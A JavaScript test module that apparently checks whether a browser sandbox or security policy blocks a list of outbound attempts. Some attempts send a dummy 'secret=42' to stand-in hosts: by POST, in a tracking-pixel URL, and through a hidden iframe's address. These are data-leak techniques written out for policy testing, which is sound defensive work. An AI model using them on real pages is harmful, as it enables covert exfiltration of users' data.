const server = 'http://EXAMPLE_SERVER'

export const attempts = [
  { name: 'Read a file of its own, /wisdom.json', run: async () => (await (await fetch('/wisdom.json')).json()).text },
  { name: 'Fetch what a rule allows, EXAMPLE_SERVER', run: async () => (await fetch(`${server}/hello`)).text() },
  { name: 'Post a secret there, where the rule says GET', run: async () => (await fetch(`${server}/hello`, { method: 'POST', body: 'secret=42' })).text() },
  { name: 'Fetch what no rule allows, example.org', run: async () => (await fetch('https://example.org/')).text() },
  { name: 'Load a tracking picture from example.com', run: () => picture('https://pixel.example.com/1.gif?secret=42') },
  { name: 'Open a WebSocket', run: () => socket('wss://echo.example.org') },
  { name: 'Navigate a frame away, a secret in its address', run: () => navigate('https://example.org/?secret=42') },
]

function picture(src) {
  return new Promise((resolve, reject) => {
    const image = new Image()
    image.onload = () => resolve('The picture was loaded.')
    image.onerror = () => reject(new Error('the picture was not loaded'))
    image.src = src
  })
}

function socket(url) {
  return new Promise((resolve, reject) => {
    const connection = new WebSocket(url)
    connection.onopen = () => resolve('The WebSocket is open.')
    connection.onerror = () => reject(new Error('no connection'))
  })
}

function navigate(url) {
  const frame = document.createElement('iframe')
  frame.hidden = true
  document.body.append(frame)
  return new Promise((resolve, reject) => {
    addEventListener('securitypolicyviolation', (event) => {
      frame.remove()
      reject(new Error(`refused by ${event.effectiveDirective}`))
    }, { once: true })
    frame.src = url
  })
}
